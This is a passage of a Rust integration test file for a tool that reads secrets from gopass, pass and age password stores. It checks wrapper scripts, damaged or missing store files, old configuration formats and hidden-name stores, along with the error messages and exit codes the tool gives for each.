            assert!(table.contains("a store that only it knows"), "{table}");
            fs::remove_dir_all(&elsewhere).unwrap();
        }
    });
}

/// A link to a program that starts others (snap, mise) is like a script, and so is a compiled program in the place of gopass.
#[test]
fn what_a_program_that_starts_others_does_not_find_is_not_missing() {
    each_version(|store| {
        store.insert("a", "value\n");
        store.encrypt("empty", b"");
        store.insert("both", "of this store\n");
        let bin = store.home.path().join("bin");
        let gopass = fs::read_link(bin.join("gopass")).unwrap();
        fs::remove_file(bin.join("gopass")).unwrap();
        // A store of its own, and damaged: what is here says nothing of it.
        let elsewhere = store.home.path().join("elsewhere");
        fs::create_dir(&elsewhere).unwrap();
        fs::copy(store.root().join(".gpg-id"), elsewhere.join(".gpg-id")).unwrap();
        fs::copy(store.root().join("a.gpg"), elsewhere.join("b.gpg")).unwrap();
        fs::create_dir(elsewhere.join("both")).unwrap();
        fs::copy(store.root().join("a.gpg"), elsewhere.join("both/x.gpg")).unwrap();
        symlink("/no/where", elsewhere.join("dead.gpg")).unwrap();
        for name in ["gopass", "my-pass"] {
            store.home.start_script(name);
            let command = format!(
                "#!/bin/sh\nPASSWORD_STORE_DIR='{}' exec '{}' \"$@\"\n",
                elsewhere.display(),
                gopass.display()
            );
            store.home.program(&format!("{name}.sh"), &command);
            let section = format!("mxm_secrets: {{gopass: {{command: {name}}}}}\n");
            let file = store.home.write("wrapped.yaml", section);
            let run = |words: &[&str]| {
                let mut all = vec!["--config", file.to_str().unwrap(), "--backend", "gopass"];
                all.extend(words);
                store.home.run(all)
            };
            run(&["get", "b"]).is(0, "value\n", "");
            for secret in ["dead", "a", "none", "both", "empty"] {
                run(&["get", secret, "--default", "D"]).has(4, "", &["failed: gopass: "]);
            }
            fs::remove_file(bin.join(name)).unwrap();
        }
        symlink("mise", bin.join("gopass")).unwrap();
        // gopass itself may be called anything.
        crate::support::copy_program(&gopass, &bin.join("mise"));
        store.home.run(["get", "a"]).is(0, "value\n", "");
        store
            .home
            .run(["get", "none"])
            .has(1, "", &["none: missing"]);
        fs::remove_file(bin.join("mise")).unwrap();
        store.home.start_script("mise");
        store.home.program(
            "gopass.sh",
            &format!("#!/bin/sh\nexec '{}' \"$@\"\n", gopass.display()),
        );
        store.home.run(["get", "a"]).is(0, "value\n", "");
        store.home.run(["get", "none", "--default", "D"]).has(
            4,
            "",
            &["none is not known to be missing"],
        );
    });
}

/// Such a script of pass and of Debian's gopass.
#[test]
fn a_script_of_another_program_is_not_looked_into() {
    for name in ["pass", "gopass-debian"] {
        let Some(store) = program(name).and_then(other) else {
            return;
        };
        let home = &store.home;
        let real = fs::read_link(home.path().join("bin/gopass")).unwrap();
        fs::remove_file(home.path().join("bin/gopass")).unwrap();
        home.program(
            "gopass",
            &format!(
                "#!/bin/bash\nfor x in 1; do PASSWORD_STORE_DIR=$HOME/elsewhere; done\nexec '{}' \"$@\"\n",
                real.display()
            ),
        );
        fs::rename(store.root(), home.path().join("elsewhere")).unwrap();
        fs::create_dir(store.root()).unwrap();
        fs::copy(
            home.path().join("elsewhere/.gpg-id"),
            store.root().join(".gpg-id"),
        )
        .unwrap();
        store.encrypt("only-beside", b"of another store\n");
        let seen = home.run(["get", "prod/api-key"]);
        match name {
            "pass" => seen.is(0, "s3cret\n", ""),
            // It takes blanks off, and which file to ask gpg for nobody knows.
            _ => seen.has(
                4,
                "",
                &["failed: gopass: prod/api-key is not known to be missing"],
            ),
        }
        for name in ["only-beside", "none"] {
            let seen = home.run(["get", name, "--default", "D"]);
            seen.has(4, "", &["failed: gopass: "]);
        }
    }
}

/// A configuration in the form of before gopass 1.15, which gopass reads and writes anew when it starts.
#[test]
fn a_store_that_only_an_old_configuration_names_is_not_searched_elsewhere() {
    each_version(|store| {
        store.insert("team/a", "of the root store\n");
        store.mount("team", "team");
        store.insert("team/b", "of the mount\n");
        let home = &store.home;
        let new = home.path().join(".config/gopass/config");
        let text = format!(
            "path: {}\nmounts:\n  team: {}\n",
            store.root().display(),
            home.path().join("team").display()
        );
        for place in [".config/gopass/config.yml", ".gopass.yml"] {
            fs::remove_file(&new).unwrap();
            let old = home.write(place, &text);
            symlink("/no/where", home.path().join("team/dead.gpg")).unwrap();
            let seen = home.run(["list-backends", "--json"]).stdout;
            assert!(
                String::from_utf8(seen)
                    .unwrap()
                    .contains("a store that only it knows")
            );
            let seen = home.run(["get", "team/dead", "--default", "D"]);
            seen.has(
                4,
                "",
                &["failed: gopass: team/dead", "hint: run gopass once by hand"],
            );
            // It has been read by now.
            home.run(["get", "team/b"]).is(0, "of the mount\n", "");
            home.run(["get", "team/none"])
                .has(1, "", &["team/none: missing"]);
            home.run(["get", "team/dead"])
                .has(4, "", &["is a link to nothing"]);
            fs::remove_file(home.path().join("team/dead.gpg")).unwrap();
            fs::remove_file(old).unwrap();
        }
    });
}

/// Without HOME, and with one that is no absolute path, home is what the system says of the account, for the program too.
#[test]
fn home_is_that_of_the_account_without_a_variable() {
    each_version(|store| {
        store.insert("a", "value\n");
        for home in [None, Some(""), Some("relative")] {
            let mut command = store.home.mxm_secrets(["get", "a"]);
            command.env_remove("HOME");
            command.envs(home.map(|home| ("HOME", home)));
            let Some(mut command) = with_account(&store.home, &command) else {
                return;
            };
            transcript(&mut command).is(0, "value\n", "");
        }
    });
}

/// A store of age, whose own encryption says that an empty secret is one. One that hides its names has a list of them.
#[test]
fn stores_of_age_are_read_and_those_that_hide_their_names() {
    let (Some(gopass), Some(age)) = (program("gopass-1.16.1"), program("age")) else {
        return;
    };
    let mut home = Home::new();
    home.install("gopass", &gopass);
    home.link(&["git"]);
    home.set("GOPASS_AGE_PASSWORD", "pp");
    home.write(
        ".gitconfig",
        "[user]\n\tname = T\n\temail = t@example.org\n",
    );
    let root = home.path().join(".local/share/gopass/stores/root");
    let gopass = |arguments: &[&str]| transcript(home.command(&gopass).args(arguments)).stdout;
    gopass(&["--yes", "age", "identities", "keygen"]);
    let recipient = String::from_utf8(gopass(&["age", "identities"])).unwrap();
    let recipient = recipient.trim();
    gopass(&[
        "--yes",
        "init",
        "--crypto",
        "age",
        "--storage",
        "fs",
        recipient,
    ]);
    let encrypt = |name: &str, value: &str| {
        let plain = home.write("plain", value);
        let mut command = home.command(&age);
        command
            .args(["-r", recipient, "-o"])
            .arg(root.join(name))
            .arg(plain);
        assert!(command.status().unwrap().success());
    };
    let get = |name: &str| home.run(["get", "-v", "--timeout", "60", "--backend", "gopass", name]);
    encrypt("a.age", "value\n");
    encrypt("empty.age", "");
    get("a").has(0, "value\n", &[]);
    get("empty").has(1, "", &["empty is empty"]);
    get("none").has(1, "", &["none is not in the password store"]);
    fs::write(root.join("a.age"), "").unwrap();
    get("a").has(4, "", &["a cannot be decrypted"]);
    gopass(&["config", "cryptfs.substorage", "fs"]);
    encrypt("0123", "hidden\n");
    encrypt(
        ".gopass-mapping",
        r#"{"prod/b.age":"0123","prod/c.age":"4567"}"#,
    );
    get("prod/b").has(0, "hidden\n", &[]);
    get("prod").has(1, "", &["prod is a folder"]);
    get("prod/none").has(1, "", &["prod/none is not in the password store"]);
    // A store that hides its names, without the list of them.
    let names = root.join(".gopass-mapping");
    fs::rename(&names, root.join("names")).unwrap();
    encrypt(&"a1".repeat(32), "hidden\n");
    get("prod/b").has(4, "", &["prod/b: ", "hides the names of its secrets"]);
    fs::rename(root.join("names"), &names).unwrap();
    // Listed, and its file is not there.
    get("prod/c").has(4, "", &["prod/c is listed, but cannot be read"]);
    fs::write(root.join(".gopass-mapping"), "junk").unwrap();
    get("prod/b").has(4, "", &["prod/b: gopass cannot list its secrets"]);
}

#[test]
fn stores_in_plain_text_are_read() {
    each_version(|store| {
        fs::remove_dir_all(store.root()).unwrap();
        fs::create_dir(store.root()).unwrap();
        store.gopass(
            &["--yes", "init", "--crypto", "plain", "--storage", "fs"],
            b"",
        );
        fs::write(store.root().join("a.txt"), "value\n").unwrap();
        store.insert("empty", "");
        store.home.run(["get", "a"]).is(0, "value\n", "");
        store
            .home
            .run(["get", "-v", "empty"])
            .has(1, "", &["empty is empty"]);
        // gopass has ended it with a newline.
        fs::write(store.root().join("empty.txt"), "").unwrap();
        store
            .home
            .run(["get", "empty", "--default", "D"])
            .has(4, "", &["empty.txt is damaged"]);
        store
            .home
            .run(["get", "none"])
            .has(1, "", &["none: missing"]);
        fs::set_permissions(
            store.root().join("a.txt"),
            fs::Permissions::from_mode(0o000),
        )
        .unwrap();
        let command = store.home.mxm_secrets(["get", "a", "--default", "D"]);
        transcript(&mut bound(&command)).has(
            4,
            "",
            &["a: failed: gopass: cannot read", "ermission denied"],
        );
    });
}

/// All files and directories below a directory.
fn files(directory: &Path) -> Vec<PathBuf> {
    let mut all = Vec::new();
    for entry in fs::read_dir(directory).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() && !path.is_symlink() {
            all.extend(files(&path));
        }
        all.push(path);
    }
    all.sort();
    all
}

#[test]
fn a_damaged_file_is_failed_at_a_terminal_too() {
    each_version(|store| {
        store.insert("a", "value\n");
        store.insert("empty", "");
        let file = store.root().join("a.gpg");
        let whole = fs::read(&file).unwrap();
        fs::write(file, &whole[..200]).unwrap();
        let at_terminal =
            |name: &str| Terminal::start(store.home.mxm_secrets(["get", name])).ends();
        let (status, screen) = at_terminal("a");
        assert_eq!(status.code(), Some(4), "{screen}");
        assert!(screen.contains("a.gpg is damaged"), "{screen}");
        let (status, screen) = at_terminal("empty");
        assert_eq!(status.code(), Some(1), "{screen}");
    });
}

/// The gopass of Debian's package, unpacked beside: both can be on one machine.
fn debian_gopass() -> Option<PathBuf> {
    program("gopass-debian")
}
